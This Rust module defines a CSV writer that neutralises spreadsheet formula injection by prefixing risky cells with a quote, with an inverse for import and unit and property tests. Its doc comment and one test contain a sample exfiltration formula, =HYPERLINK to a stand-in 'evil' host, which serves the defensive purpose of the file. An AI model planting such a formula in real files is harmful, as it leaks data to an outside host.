//! CSV that a spreadsheet opens without running anything, and that reads
//! back to the very same text.
//!
//! A spreadsheet runs a cell beginning with `=`, `+`, `-` or `@` as a
//! formula (and one beginning with a tab or a carriage return, after it
//! strips them). A name set by an insider, `=HYPERLINK("http://evil/?"&A1)`,
//! would run in the auditor's copy of Excel. So every cell written through
//! [`Writer`] is [`neutralise`]d: such a cell is led by a `'`, which a
//! spreadsheet shows as text. A cell that already begins with `'`s followed
//! by one of those characters gets one more `'`, so that [`unneutralise`],
//! which every importer applies, takes away exactly what was added:
//! `unneutralise(neutralise(s)) == s` for every string.
//!
//! Every CSV rolecall writes (the command line's export, the console's
//! downloads) goes through [`Writer`]; nothing writes `csv::Writer` itself.

use std::borrow::Cow;
use std::io;

/// What a spreadsheet may run when a cell begins with it.
const DANGEROUS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether `cell` needs a `'` in front: after any `'`s it begins with a
/// character a spreadsheet runs.
fn needs_quote(cell: &str) -> bool {
    cell.trim_start_matches('\'').starts_with(DANGEROUS)
}

/// `cell` as it is written: led by a `'` when it begins with `=`, `+`, `-`,
/// `@`, a tab or a carriage return, or with `'`s followed by one of those;
/// unchanged otherwise.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    if needs_quote(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// A cell as it was before [`neutralise`]: one leading `'` taken away when
/// what follows is `'`s and then `=`, `+`, `-`, `@`, a tab or a carriage
/// return (`'=x` reads as `=x`, `''=x` as `'=x`); any other cell unchanged
/// (`'abc` stays `'abc`).
pub fn unneutralise(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if needs_quote(rest) => rest,
        _ => cell,
    }
}

/// A CSV writer that neutralises every cell: the only way rolecall writes
/// CSV.
pub struct Writer<W: io::Write> {
    /// The underlying writer, which quotes cells as CSV needs.
    inner: csv::Writer<W>,
}

impl<W: io::Write> Writer<W> {
    /// Writes to `out`, records ended by `\n`.
    pub fn from_writer(out: W) -> Self {
        Writer {
            inner: csv::Writer::from_writer(out),
        }
    }

    /// Writes to `out`, records ended by `\r\n` (RFC 4180, and what a
    /// spreadsheet expects of a download).
    pub fn crlf(out: W) -> Self {
        Writer {
            inner: csv::WriterBuilder::new()
                .terminator(csv::Terminator::CRLF)
                .from_writer(out),
        }
    }

    /// Writes one record, every cell [`neutralise`]d. Every record of a
    /// file has as many cells as the first.
    pub fn write_record<I, T>(&mut self, cells: I) -> io::Result<()>
    where
        I: IntoIterator<Item = T>,
        T: AsRef<str>,
    {
        self.inner
            .write_record(
                cells
                    .into_iter()
                    .map(|c| neutralise(c.as_ref()).into_owned()),
            )
            .map_err(io::Error::from)
    }

    /// Writes out what is buffered.
    pub fn flush(&mut self) -> io::Result<()> {
        self.inner.flush()
    }

    /// Flushes and gives back the underlying writer.
    pub fn into_inner(self) -> io::Result<W> {
        self.inner.into_inner().map_err(|e| e.into_error())
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    #[test]
    fn a_cell_a_spreadsheet_would_run_is_led_by_a_quote() {
        for cell in [
            "=1+1",
            "+SUM(A1:A9)",
            "-2",
            "@cmd",
            "\tx",
            "\rx",
            "=HYPERLINK(\"http://evil/?\"&A1,\"click\")",
        ] {
            assert_eq!(neutralise(cell), format!("'{cell}"));
        }
    }

    #[test]
    fn a_cell_already_led_by_quotes_before_a_formula_gets_one_more() {
        assert_eq!(neutralise("'=x"), "''=x");
        assert_eq!(neutralise("''-x"), "'''-x");
    }

    #[test]
    fn any_other_cell_is_written_as_it_is() {
        for cell in ["", "Ann", "'abc", "''", "a=b", " =x", "{\"a\":1}"] {
            assert_eq!(neutralise(cell), cell);
        }
    }

    #[test]
    fn import_takes_away_exactly_the_quote_export_added() {
        assert_eq!(unneutralise("'=x"), "=x");
        assert_eq!(unneutralise("''=x"), "'=x");
        assert_eq!(unneutralise("'abc"), "'abc");
        assert_eq!(unneutralise("'"), "'");
        assert_eq!(unneutralise("=x"), "=x");
    }

    #[test]
    fn the_writer_neutralises_and_quotes_every_cell() {
        // Arrange
        let mut writer = Writer::crlf(Vec::new());

        // Act
        writer
            .write_record(["plain", "a,b", "say \"hi\"", "two\nlines", "=1+1", "-x"])
            .unwrap();
        let out = String::from_utf8(writer.into_inner().unwrap()).unwrap();

        // Assert
        assert_eq!(
            out,
            "plain,\"a,b\",\"say \"\"hi\"\"\",\"two\nlines\",'=1+1,'-x\r\n"
        );
    }

    proptest::proptest! {
        #[test]
        fn neutralise_round_trips_and_never_begins_dangerously(s in proptest::prelude::any::<String>()) {
            let written = neutralise(&s);
            proptest::prop_assert!(!written.starts_with(DANGEROUS));
            proptest::prop_assert_eq!(unneutralise(&written), s.as_str());
        }

        #[test]
        fn quotes_before_a_dangerous_character_round_trip(
            quotes in 0usize..4,
            first in proptest::sample::select(DANGEROUS.to_vec()),
            rest in ".*",
        ) {
            let s = format!("{}{first}{rest}", "'".repeat(quotes));
            let written = neutralise(&s);
            proptest::prop_assert!(written.starts_with('\''));
            proptest::prop_assert_eq!(unneutralise(&written), s.as_str());
        }
    }
}
